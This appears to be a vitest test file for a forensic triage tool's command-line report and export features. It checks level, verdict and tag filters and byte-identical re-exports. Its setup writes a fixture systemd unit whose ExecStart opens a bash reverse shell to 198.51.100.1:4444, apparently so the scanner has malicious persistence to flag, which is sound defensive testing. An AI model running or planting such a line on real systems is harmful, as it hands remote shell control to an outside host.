import { spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportRequest } from '../../shared/ipc/contract.ts';
import { LEVELS } from '../../shared/level.ts';
import type { Finding } from '../../shared/model/finding.ts';
import { temporaryFolder, writeTree } from '../support/host-tree.ts';
import { EngineClient } from '../triage/engine/engine-client.ts';
import { SMALL_ROOT } from '../triage/engine/small-root.ts';

const CLI = join(import.meta.dirname, '..', '..', 'out', 'cli.js');
const CASE_DATA = { case: 'IR 1', evidence: null, examiner: 'Kim', notes: null };
const ALL = { scope: 'all', levels: [], verdicts: [], caseData: CASE_DATA } satisfies Partial<ExportRequest>;
const FORMATS = ['html', 'csv', 'jsonl', 'case', 'timesketch', 'navigator', 'stix', 'ecs'];
let place: ReturnType<typeof temporaryFolder>;
let file: string;
let engine: EngineClient;

function run(...args: string[]) {
  return spawnSync(process.execPath, [CLI, ...args], { cwd: place.path, encoding: 'utf8' });
}

function findings(...args: string[]): Finding[] {
  const { stdout, stderr } = run('report', file, '--stdout', ...args);
  expect(stderr).toBe('');
  const lines = stdout.trim().split('\n');
  return lines.flatMap((line) => (line.startsWith('{"type":"finding"') ? [JSON.parse(line)] : []));
}

/** Files of a folder by name. */
function contents(folder: string): Map<string, string> {
  return new Map(readdirSync(folder).map((name) => [name, readFileSync(join(folder, name), 'latin1')]));
}

beforeAll(async () => {
  place = temporaryFolder();
  const root = join(place.path, 'root');
  file = join(place.path, 'the case.daemonscope');
  writeTree(root, {
    ...SMALL_ROOT,
    'etc/systemd/system/worse.service':
      '[Service]\nExecStart=/bin/sh -c "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"\n',
  });
  engine = new EngineClient();
  const done = engine.next('scan:done', 'scan:failed');
  await engine.value(
    'scan:start',
    { target: 'root', hash: true, baseline: null, caseData: CASE_DATA },
    { root },
  );
  expect(await done).toBe('scan:done');
  const said = { note: '', who: 'Kim', tags: [] };
  await engine.value('case:annotate', {
    ...said,
    subject: 'linux:systemd:system:bad.service',
    verdict: 'malicious',
    tags: ['seen'],
  });
  await engine.value('case:annotate', {
    ...said,
    subject: 'linux:systemd:system:good.service',
    verdict: 'benign',
  });
  await engine.value('case:save', { handle: 'f' }, { f: file });
}, 60_000);
afterAll(() => {
  engine?.close();
  place?.dispose();
});

describe('a report of a part of the case, by command line', () => {
  it('has the findings of the levels, of the verdict or of what was tagged', () => {
    const all = findings();
    const names = (list: readonly Finding[]) => list.map(({ id }) => id);
    for (const level of ['high', 'critical'] as const) {
      const own = all.filter((finding) => finding.level === level);
      expect(names(findings('--level', level)), level).toEqual(names(own));
      const above = all.filter((finding) => LEVELS.indexOf(finding.level) >= LEVELS.indexOf(level));
      expect(names(findings('--min-level', level)), level).toEqual(names(above));
    }
    expect(new Set(all.map(({ level }) => level)).size).toBeGreaterThan(1);
    const bad = all.filter(({ subject }) => subject.name === 'bad.service');
    expect(bad.length).toBeGreaterThan(0);
    expect(bad.length).toBeLessThan(all.length);
    expect(names(findings('--verdict', 'malicious'))).toEqual(names(bad));
    expect(names(findings('--verdict', 'Malicious, suspicious'))).toEqual(names(bad));
    expect(names(findings('--tagged'))).toEqual(names(bad));
    expect(findings('--verdict', 'benign')).toEqual([]);
  });

  it('is refused in one sentence when it cannot be meant', () => {
    for (const args of [
      ['--level', 'worst'],
      ['--level', ','],
      ['--min-level', 'high,low'],
      ['--verdict', 'guilty'],
      ['--tagged', '--level', 'high'],
      ['--level', 'high', '--min-level', 'low'],
    ]) {
      const { status, stderr } = run('report', file, '--stdout', ...args);
      expect(status, args.join(' ')).toBe(2);
      expect(stderr.trim().split('\n')).toHaveLength(1);
    }
  });
});

describe('the command that the window shows after an export', () => {
  const parts: [string, Partial<ExportRequest>][] = [
    ['all', {}],
    ['levels', { scope: 'levels', levels: ['high', 'critical'] }],
    ['lowest', { scope: 'levels', levels: ['informational', 'low', 'critical'] }],
    ['verdicts', { scope: 'verdicts', verdicts: ['malicious', 'unreviewed'] }],
    ['tagged', { scope: 'tagged' }],
    [
      'renamed',
      { scope: 'tagged', caseData: { case: "O'Hara", evidence: '-1', examiner: null, notes: 'a\nb' } },
    ],
  ];
  it.each(parts)('writes the same files, byte for byte: %s', async (name, part) => {
    const out = join(place.path, name);
    mkdirSync(out);
    const request = { ...ALL, ...part, folder: 'out', formats: FORMATS };
    const { folder, commandLine, files } = await engine.value('report:export', request, { out });
    const again = join(out, 'again');
    mkdirSync(again);
    const line = (commandLine ?? '').replace(/^daemonscope /, `"$0" '${CLI}' `);
    const { status, stderr } = spawnSync('/bin/sh', ['-c', line, process.execPath], {
      cwd: again,
      encoding: 'utf8',
    });
    expect(status, stderr).toBe(0);
    const [written = ''] = readdirSync(again);
    const [own, other] = [contents(folder), contents(join(again, written))];
    expect([...other.keys()].sort()).toEqual([...files].sort());
    for (const [file, bytes] of own) expect(other.get(file) === bytes, file).toBe(true);
  });

  it('is none while the judgements are not in the file', async () => {
    await engine.value('case:annotate', {
      subject: 'linux:systemd:system:good.service',
      verdict: 'suspicious',
      note: '',
      who: 'Kim',
      tags: [],
    });
    const out = join(place.path, 'unsaved');
    mkdirSync(out);
    const request: ExportRequest = { ...ALL, folder: 'out', formats: ['csv'] };
    expect((await engine.value('report:export', request, { out })).commandLine).toBeNull();
  });
});
